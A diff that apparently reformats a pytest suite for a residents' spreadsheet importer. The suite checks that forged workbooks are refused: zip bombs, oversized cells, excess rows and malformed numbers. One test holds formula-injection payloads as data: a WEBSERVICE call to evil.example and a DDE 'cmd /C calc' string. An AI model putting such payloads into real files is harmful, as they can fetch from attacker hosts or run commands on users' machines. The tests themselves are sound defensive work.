@@ -27,9 +27,18 @@ def forged(path: Path, sheet: str, *, more: dict[str, bytes] | None = None, pref
     """An .xlsx with just what it needs, and whatever is to be forged."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("xl/workbook.xml", f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="a" r:id="r1"/></sheets></workbook>')
-        archive.writestr("xl/_rels/workbook.xml.rels", '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>')
-        archive.writestr("xl/worksheets/sheet1.xml", f'{prefix}<worksheet xmlns="{MAIN}"><sheetData>{rows}{sheet}</sheetData></worksheet>')
+        archive.writestr(
+            "xl/workbook.xml",
+            f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="a" r:id="r1"/></sheets></workbook>',
+        )
+        archive.writestr(
+            "xl/_rels/workbook.xml.rels",
+            '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>',
+        )
+        archive.writestr(
+            "xl/worksheets/sheet1.xml",
+            f'{prefix}<worksheet xmlns="{MAIN}"><sheetData>{rows}{sheet}</sheetData></worksheet>',
+        )
         for name, content in (more or {}).items():
             archive.writestr(name, content)
     return path
@@ -82,14 +91,20 @@ def test_macros(tmp_path: Path) -> None:
 
 def test_a_zip_bomb_is_refused_by_what_it_declares(tmp_path: Path) -> None:
     path = tmp_path / "a.xlsx"
-    with zipfile.ZipFile(forged(path, ""), "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/media/bomb.bin", "w") as member:
+    with (
+        zipfile.ZipFile(forged(path, ""), "a", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("xl/media/bomb.bin", "w") as member,
+    ):
         for _ in range(64):
             member.write(bytes(1 << 20))
     assert refusal(path) == "too_large"
 
 
 def test_too_many_members(tmp_path: Path) -> None:
-    assert refusal(forged(tmp_path / "a.xlsx", "", more={f"x/{n}": b"" for n in range(guards.MOST_MEMBERS + 1)})) == "too_large"
+    assert (
+        refusal(forged(tmp_path / "a.xlsx", "", more={f"x/{n}": b"" for n in range(guards.MOST_MEMBERS + 1)}))
+        == "too_large"
+    )
 
 
 def test_a_member_that_is_cut_or_changed(tmp_path: Path) -> None:
@@ -125,8 +140,18 @@ def test_an_endless_void_below_the_header(tmp_path: Path) -> None:
 
 def test_a_cell_of_a_million_signs(tmp_path: Path) -> None:
     long = "长" * 1_000_000
-    assert refusal(forged(tmp_path / "a.xlsx", f'<row><c t="inlineStr"><is><t>{long}</t></is></c></row>')) == "cell_too_long"
-    assert refusal(forged(tmp_path / "b.xlsx", "", more={"xl/sharedStrings.xml": f"<sst><si><t>{long}</t></si></sst>".encode()})) == "cell_too_long"
+    assert (
+        refusal(forged(tmp_path / "a.xlsx", f'<row><c t="inlineStr"><is><t>{long}</t></is></c></row>'))
+        == "cell_too_long"
+    )
+    assert (
+        refusal(
+            forged(
+                tmp_path / "b.xlsx", "", more={"xl/sharedStrings.xml": f"<sst><si><t>{long}</t></si></sst>".encode()}
+            )
+        )
+        == "cell_too_long"
+    )
     assert refusal(a_csv(tmp_path / "a.csv", [["曲凤英", long]], header=["姓名", "住址"])) == "cell_too_long"
 
 
@@ -136,14 +161,20 @@ def test_a_row_that_never_ends(tmp_path: Path) -> None:
 
 def test_cells_in_far_corners_cost_nothing(session: Session, tmp_path: Path) -> None:
     areas(session)
-    far = '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>曲凤英</t></is></c><c r="XFD1048576"><v>1</v></c></row>'
+    far = (
+        '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>曲凤英</t></is></c><c r="XFD1048576"><v>1</v></c></row>'
+    )
     report = import_residents(session, path=forged(tmp_path / "a.xlsx", far), now=NOW, today=date(2026, 11, 22))
     assert [(note.row, note.code) for note in report.refused] == [(1048576, "no_address")]
 
 
 def test_formulas_are_never_worked_out(session: Session, tmp_path: Path) -> None:
     areas(session)
-    rows = [a_row(1, '=WEBSERVICE("http://evil.example")'), a_row(2, "曲凤英", 联系电话="=1+1"), a_row(3, "=cmd|' /C calc'!A0")]
+    rows = [
+        a_row(1, '=WEBSERVICE("http://evil.example")'),
+        a_row(2, "曲凤英", 联系电话="=1+1"),
+        a_row(3, "=cmd|' /C calc'!A0"),
+    ]
     report = import_residents(session, path=a_workbook(tmp_path / "a.xlsx", rows), now=NOW, today=date(2026, 11, 22))
     assert [(note.row, note.code) for note in report.refused] == [(5, "no_name"), (7, "no_name")]
     told = import_residents(session, path=a_csv(tmp_path / "a.csv", rows), now=NOW, today=date(2026, 11, 22))
@@ -153,7 +184,10 @@ def test_formulas_are_never_worked_out(session: Session, tmp_path: Path) -> None
 def test_a_number_that_is_no_number(session: Session, tmp_path: Path) -> None:
     areas(session)
     cells = ("nan", "inf", "1e999", "9" * 5000, "²", "-0")
-    rows = "".join(f'<row><c t="inlineStr"><is><t>曲凤英</t></is></c><c><v>{cell}</v></c><c><v>{GRID}</v></c></row>' for cell in cells)
+    rows = "".join(
+        f'<row><c t="inlineStr"><is><t>曲凤英</t></is></c><c><v>{cell}</v></c><c><v>{GRID}</v></c></row>'
+        for cell in cells
+    )
     report = import_residents(session, path=forged(tmp_path / "a.xlsx", rows), now=NOW, today=date(2026, 11, 22))
     assert {note.code for note in report.refused} <= {"bad_address", "no_address"}
     assert report.new == 0
@@ -163,14 +197,21 @@ def test_a_number_that_is_no_number(session: Session, tmp_path: Path) -> None:
 def test_memory_and_time_are_bounded(tmp_path: Path, kind: str) -> None:
     """In a process of its own, so that its peak is its own; the limit on time is for a machine that does other things too."""
     path = tmp_path / "a.xlsx"
-    sheet = {"bomb": "", "rows": "<row/>" * 1_000_000, "cell": f'<row><c t="str"><v>{"x" * 10**6}</v></c></row>', "void": '<row><c r="A9" s="1"/></row>' * 400_000}
+    sheet = {
+        "bomb": "",
+        "rows": "<row/>" * 1_000_000,
+        "cell": f'<row><c t="str"><v>{"x" * 10**6}</v></c></row>',
+        "void": '<row><c r="A9" s="1"/></row>' * 400_000,
+    }
     forged(path, sheet[kind], more={"xl/sharedStrings.xml": bytes(300 << 20)} if kind == "bomb" else None)
     code = (
         "import resource, sys, time\nfrom pathlib import Path\nfrom app.errors import Invalid\nfrom app.services.imports.sheet import open_sheet\n"
         "peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024\nbefore, begun = peak(), time.process_time()\n"
         f"try:\n    [None for _ in open_sheet(Path({str(path)!r})).rows]\nexcept Invalid as e:\n    print(e.code, peak() - before, time.process_time() - begun)"
     )
-    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=Path(__file__).parents[2], check=True)
+    done = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, cwd=Path(__file__).parents[2], check=True
+    )
     refused, memory, seconds = done.stdout.split()
     assert refused in {"too_large", "too_many_rows", "cell_too_long", "empty_rows"}
     assert int(memory) < 200
@@ -180,7 +221,10 @@ def test_memory_and_time_are_bounded(tmp_path: Path, kind: str) -> None:
 def test_a_workbook_of_another_dialect(session: Session, tmp_path: Path) -> None:
     """Prefixed names, absolute targets, a hidden first sheet, shared strings with phonetics, a date style."""
     areas(session)
-    strings = "".join(f"<x:si><x:r><x:t>{s[:1]}</x:t></x:r><x:r><x:t>{s[1:]}</x:t></x:r><x:rPh><x:t>拼</x:t></x:rPh></x:si>" for s in ("姓名", "住址", "网格", "出生年月", "曲凤英", "和平里小区3-1-402"))
+    strings = "".join(
+        f"<x:si><x:r><x:t>{s[:1]}</x:t></x:r><x:r><x:t>{s[1:]}</x:t></x:r><x:rPh><x:t>拼</x:t></x:rPh></x:si>"
+        for s in ("姓名", "住址", "网格", "出生年月", "曲凤英", "和平里小区3-1-402")
+    )
     book = (
         f'<x:workbook xmlns:x="{MAIN}" xmlns:r="{RELS}"><x:sheets><x:sheet name="h" state="hidden" r:id="r0"/>'
         '<x:sheet name="a" r:id="r1"/></x:sheets></x:workbook>'
@@ -193,10 +237,15 @@ def test_a_workbook_of_another_dialect(session: Session, tmp_path: Path) -> None
     with zipfile.ZipFile(tmp_path / "a.xlsx", "w") as archive:
         archive.writestr("[Content_Types].xml", "<Types/>")
         archive.writestr("xl/workbook.xml", book)
-        archive.writestr("xl/_rels/workbook.xml.rels", '<R><Relationship Id="r0" Target="worksheets/h.xml"/><Relationship Id="r1" Target="/xl/worksheets/s.xml"/></R>')
+        archive.writestr(
+            "xl/_rels/workbook.xml.rels",
+            '<R><Relationship Id="r0" Target="worksheets/h.xml"/><Relationship Id="r1" Target="/xl/worksheets/s.xml"/></R>',
+        )
         archive.writestr("xl/sharedStrings.xml", f'<x:sst xmlns:x="{MAIN}">{strings}</x:sst>')
         archive.writestr("xl/styles.xml", '<x:s xmlns:x="m"><x:numFmts><x:numFmt numFmtId="200" formatCode="yyyy&quot;年&quot;m&quot;月&quot;"/></x:numFmts><x:cellXfs><x:xf numFmtId="0"/><x:xf numFmtId="200"/></x:cellXfs></x:s>')  # fmt: skip
-        archive.writestr("xl/worksheets/s.xml", f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows}</x:sheetData></x:worksheet>')
+        archive.writestr(
+            "xl/worksheets/s.xml", f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>{rows}</x:sheetData></x:worksheet>'
+        )
         archive.writestr("xl/worksheets/h.xml", "<w/>")
     report = import_residents(session, path=tmp_path / "a.xlsx", now=NOW, today=date(2026, 11, 22))
     assert (report.new, report.refused) == (1, [])
